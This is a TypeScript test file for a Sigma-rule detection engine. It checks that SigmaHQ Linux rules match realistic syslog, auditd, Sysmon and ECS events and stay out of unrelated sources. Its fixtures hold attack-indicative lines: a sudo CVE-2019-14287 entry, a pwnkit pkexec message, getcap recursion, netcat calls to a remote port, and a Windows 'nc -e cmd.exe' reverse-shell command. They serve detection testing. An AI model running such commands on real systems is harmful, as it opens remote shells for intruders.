// SigmaHQ's Linux rules over realistic Linux events, with every SigmaHQ rule loaded: syslog lines parsed by
// our own parser, auditd records, Sysmon for Linux, ECS. Each event reaches its rule through its declared
// source (or channel) and no rule of another source. Reads ../shared/corpora (or BULWARK_CORPORA); skips when absent.
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { beforeAll, describe, expect, it } from 'vitest';
import { parseSyslog } from '../../ingest/parse/syslog.ts';
import { compilePack, type CompiledRule } from './compile.ts';
import { declaredSourceOf } from './declared-source.ts';
import { parseRuleText } from './load.ts';
import { compileRule } from './compile.ts';
import { RuleRouter } from './logsources.ts';
import { fieldResolver } from './resolver.ts';

const corpora = process.env.BULWARK_CORPORA ?? fileURLToPath(new URL('../../../../../../../shared/corpora', import.meta.url));
const sigma = join(corpora, 'sigma');
const present = existsSync(join(sigma, 'rules', 'linux'));
if (!present) console.log(`sigma corpus not found at ${sigma}: skipping the Linux rule checks`);

const ID = {
  sshd: 'e76b413a-83d0-4b94-8e4c-85db4a5b8bdc', // lnx_sshd_susp_ssh: sshd keywords
  sudo: '7fcc54cb-f27d-4684-84b7-436af096f858', // CVE-2019-14287: sudo USER '#-*'
  pwnkit: '0506a799-698b-43b4-85a1-ac4c84c720e9', // CVE-2021-4034: service auth, |all keywords
  crontab: 'af202fd3-7bff-4212-a25a-fb34606cfcbe', // service cron, 'REPLACE'
  getcap: 'fe10751f-1995-40a5-aaa2-c97ccb4123fe', // auditd EXECVE a0 getcap a1 -r a2 /
  sysinfo: 'f34047d9-20d3-4e8b-8672-0a35cc50dc71', // auditd PATH /etc/issue or EXECVE uname
  netutil: '3e102cd9-a70d-4a7a-9508-403963092f31', // process_creation: (netcat and not listen flag) or scanners
  bashConnect: '83dcd9f6-9ca8-4af7-a16e-a1c7a6b51871', // network_connection: /bin/bash and not to 127.0.0.1
  stopFirewall: '49f5dfc1-f92e-4d34-96fa-feba3f6acf36', // service syslog, 'stopping firewalld'
};
const NOW = new Date('2024-03-05T12:00:00Z');

function syslog(line: string): Record<string, unknown> {
  const r = parseSyslog(line, NOW);
  if (!r.ok) throw new Error(r.error);
  return JSON.parse(JSON.stringify(r.value)) as Record<string, unknown>;
}
const sysmonLinux = (eventId: number, data: Record<string, unknown>) => ({
  Event: { System: { Provider: { '#attributes': { Name: 'Linux-Sysmon' } }, EventID: eventId, Channel: 'Linux-Sysmon/Operational', Computer: 'web01' }, EventData: { RuleName: '-', UtcTime: '2024-03-05 10:21:00.000', ...data } },
});
const ecs = (category: string, type: string, fields: Record<string, unknown>) => ({
  '@timestamp': '2024-03-05T10:21:00.000Z', ecs: { version: '8.11.0' }, event: { kind: 'event', category: [category], type: [type] }, host: { name: 'web01', os: { type: 'linux' } }, ...fields,
});

describe.skipIf(!present)('SigmaHQ Linux rules over Linux events', () => {
  let router: RuleRouter;
  const matches = (event: unknown): CompiledRule[] => {
    const get = fieldResolver(event);
    return router.match(get, declaredSourceOf(get));
  };
  const ids = (event: unknown) => matches(event).map((m) => m.rule.id);

  beforeAll(async () => {
    const pack = await compilePack(['rules', 'rules-emerging-threats', 'rules-threat-hunting'].map((d) => join(sigma, d)));
    router = new RuleRouter(pack.rules);
  }, 120_000);

  it('sshd: a suspicious sshd message matches, an ordinary one and the same words from sudo do not', () => {
    expect(ids(syslog('<38>Mar  5 10:15:22 web01 sshd[2411]: Corrupted MAC on input. [preauth]'))).toContain(ID.sshd);
    expect(ids(syslog('<86>1 2024-03-05T10:15:22Z web01 sshd 2411 - - error: Corrupted MAC on input. [preauth]'))).toContain(ID.sshd);
    expect(ids(syslog('<38>Mar  5 10:15:22 web01 sshd[2411]: Accepted publickey for alice from 198.51.100.4 port 52814 ssh2'))).toEqual([]);
    expect(ids(syslog('<85>Mar  5 10:16:01 web01 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/echo Corrupted MAC on input'))).not.toContain(ID.sshd);
  });

  it('sudo: USER=#-1 (CVE-2019-14287) from the message’s pairs; USER=root does not match', () => {
    expect(ids(syslog('<85>Mar  5 10:16:01 web01 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=#-1 ; COMMAND=/usr/bin/id'))).toEqual([ID.sudo]);
    expect(ids(syslog('<85>Mar  5 10:16:01 web01 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/id'))).toEqual([]);
  });

  it('auth.log (authpriv facility): pkexec’s pwnkit message', () => {
    const line = '<85>Mar  5 10:16:30 web01 pkexec[3320]: alice: The value for environment variable XAUTHORITY contains suspicious content [USER=root] [TTY=/dev/pts/0] [CWD=/home/alice] [COMMAND=GCONV_PATH=./pwnkit.so:. PATH=GCONV_PATH=.]';
    expect(ids(syslog(line))).toContain(ID.pwnkit);
    // The same text from a program that is not Linux's says nothing about its source: no Linux rule.
    expect(ids(syslog(line.replace('pkexec[3320]', '%ASA-5-111008')))).toEqual([]);
  });

  it('cron and syslog services', () => {
    expect(ids(syslog('<78>Mar  5 10:18:12 web01 crontab[4012]: (alice) REPLACE (alice)'))).toContain(ID.crontab);
    expect(ids(syslog('<30>1 2024-03-05T10:20:00Z web01 systemd 1 - - Stopping firewalld - dynamic firewall daemon...'))).toContain(ID.stopFirewall);
    // In auth.log (authpriv), not /var/log/syslog: the syslog-service rule does not apply.
    expect(ids(syslog('<86>1 2024-03-05T10:20:00Z web01 systemd 1 - - Stopping firewalld - dynamic firewall daemon...'))).not.toContain(ID.stopFirewall);
  });

  it('auditd: JSON records and a record carried by syslog', () => {
    expect(ids({ type: 'EXECVE', msg: 'audit(1709633821.123:4242)', argc: '3', a0: 'getcap', a1: '-r', a2: '/' })).toContain(ID.getcap);
    expect(ids(syslog('<14>1 2024-03-05T10:18:00Z web01 audisp-syslog - - - type=EXECVE msg=audit(1709633880.456:4250): argc=3 a0="getcap" a1="-r" a2="/"'))).toContain(ID.getcap);
    expect(ids({ type: 'PATH', msg: 'audit(1709633821.123:4243)', item: '0', name: '/etc/issue', nametype: 'NORMAL' })).toContain(ID.sysinfo);
    expect(ids({ type: 'EXECVE', msg: 'audit(1709633821.123:4244)', argc: '2', a0: 'getcap', a1: '/usr/bin/ping' })).not.toContain(ID.getcap);
  });

  it('Sysmon for Linux by channel: process_creation and network_connection with `not filter`', () => {
    expect(ids(sysmonLinux(1, { Image: '/usr/bin/nc', CommandLine: 'nc 203.0.113.5 4444', User: 'alice', ParentImage: '/bin/bash' }))).toContain(ID.netutil);
    expect(ids(sysmonLinux(1, { Image: '/usr/bin/nc', CommandLine: 'nc -l 4444', User: 'alice' }))).not.toContain(ID.netutil);
    expect(ids(sysmonLinux(3, { Image: '/bin/bash', DestinationIp: '198.51.100.2', DestinationPort: 4444, Initiated: 'true' }))).toContain(ID.bashConnect);
    expect(ids(sysmonLinux(3, { Image: '/bin/bash', DestinationIp: '127.0.0.1', DestinationPort: 4444 }))).not.toContain(ID.bashConnect);
  });

  it('ECS events through the ECS mapping', () => {
    const nc = { executable: '/usr/bin/nc', command_line: 'nc 203.0.113.5 4444', parent: { executable: '/bin/bash' } };
    expect(ids(ecs('process', 'start', { process: nc }))).toContain(ID.netutil);
    expect(ids(ecs('process', 'start', { process: { ...nc, command_line: 'nc -l 4444' } }))).not.toContain(ID.netutil);
    expect(ids(ecs('network', 'connection', { process: { executable: '/bin/bash' }, destination: { ip: '198.51.100.2', port: 4444 } }))).toContain(ID.bashConnect);
    expect(ids(ecs('network', 'connection', { process: { executable: '/bin/bash' }, destination: { ip: '127.0.0.1', port: 4444 } }))).not.toContain(ID.bashConnect);
  });

  it('Linux events reach only Linux or product-less rules; Windows events no Linux rule', () => {
    const linuxEvents = [
      syslog('<38>Mar  5 10:15:22 web01 sshd[2411]: Corrupted MAC on input. [preauth]'),
      { type: 'EXECVE', msg: 'audit(1709633821.123:4242)', argc: '3', a0: 'getcap', a1: '-r', a2: '/' },
      sysmonLinux(1, { Image: '/usr/bin/nc', CommandLine: 'nc 203.0.113.5 4444' }),
      ecs('process', 'start', { process: { executable: '/usr/bin/nc', command_line: 'nc 203.0.113.5 4444' } }),
    ];
    for (const e of linuxEvents) for (const m of matches(e)) expect([undefined, 'linux']).toContain(m.rule.logsource.product);
    const windows = { Event: { System: { Channel: 'Microsoft-Windows-Sysmon/Operational', EventID: 1, Computer: 'ws01' }, EventData: { Image: 'C:\\tools\\nc.exe', CommandLine: 'nc 203.0.113.5 4444 -e cmd.exe' } } };
    for (const m of matches(windows)) expect(m.rule.logsource.product).not.toBe('linux');
  });
});

describe('a missing field never lets `not filter` match an event of another source', () => {
  const rule = parseRuleText(`title: only-not\nlogsource: {product: linux, category: process_creation}\ndetection:\n    filter:\n        Image|endswith: '/bash'\n    condition: not filter\n`).rules[0]!;
  const c = compileRule(rule);
  if (!c.ok) throw new Error(c.errors[0]?.reason);
  const router = new RuleRouter([{ rule, matcher: c.matcher }]);
  const count = (event: unknown) => {
    const get = fieldResolver(event);
    return router.match(get, declaredSourceOf(get)).length;
  };

  it('matches a process event whose Image the filter does not cover, and not one it covers', () => {
    expect(count(ecs('process', 'start', { process: { executable: '/usr/bin/id' } }))).toBe(1);
    expect(count(ecs('process', 'start', { process: { executable: '/bin/bash' } }))).toBe(0);
    expect(count(sysmonLinux(1, { Image: '/usr/bin/id' }))).toBe(1);
  });

  it('never matches events of other sources, which lack Image', () => {
    expect(count(syslog('<38>Mar  5 10:15:22 web01 sshd[2411]: Accepted publickey for alice from 198.51.100.4 port 52814 ssh2'))).toBe(0);
    expect(count({ type: 'EXECVE', msg: 'audit(1709633821.123:4242)', argc: '1', a0: 'id' })).toBe(0);
    expect(count(sysmonLinux(3, { DestinationIp: '198.51.100.2' }))).toBe(0);
    expect(count(ecs('network', 'connection', { destination: { ip: '198.51.100.2' } }))).toBe(0);
    expect(count({ Event: { System: { Channel: 'Microsoft-Windows-Sysmon/Operational', EventID: 1 }, EventData: {} } })).toBe(0);
    expect(count({ message: 'no source at all' })).toBe(0);
  });
});
